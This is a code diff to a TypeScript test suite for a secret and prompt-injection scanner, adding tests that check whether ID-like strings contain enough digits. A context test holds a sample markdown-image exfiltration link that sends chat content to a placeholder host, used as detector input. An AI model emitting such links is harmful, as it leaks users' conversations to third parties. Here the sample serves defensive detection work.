@@ -6,7 +6,7 @@ import { prefixes } from './detect/secret-rules.ts';
 import { marks, siftText } from './marks.ts';
 import { Scanner } from './scanner.ts';
 import { Search } from './search.ts';
-import { ESCAPED, TOKEN } from './sieve.ts';
+import { DIGITS, ESCAPED, TOKEN } from './sieve.ts';
 
 const read = readConfig({
   version: 1,
@@ -73,6 +73,16 @@ describe('the sieve', () => {
     const { hits } = new Scanner(images, 'text').push('![x](https://e.example/?q=${chat})', true);
     // Its mark had two letters, and no word of fewer than three is ever seen.
     expect(hits.map(({ kind }) => kind)).toEqual(['injection-exfiltration']);
+  });
+
+  it.each([
+    ['my card says ABCPE1234F.', DIGITS],
+    ['my card says abcpe1234f', DIGITS],
+    ['part ABC1234F', 0],
+    ['part ABCPE12345', 0],
+    ['ABCPE1234', 0],
+  ])('sees whether %j has digits enough', (written, expected) => {
+    expect(siftText(written) & DIGITS).toBe(expected);
   });
 
   it.each([
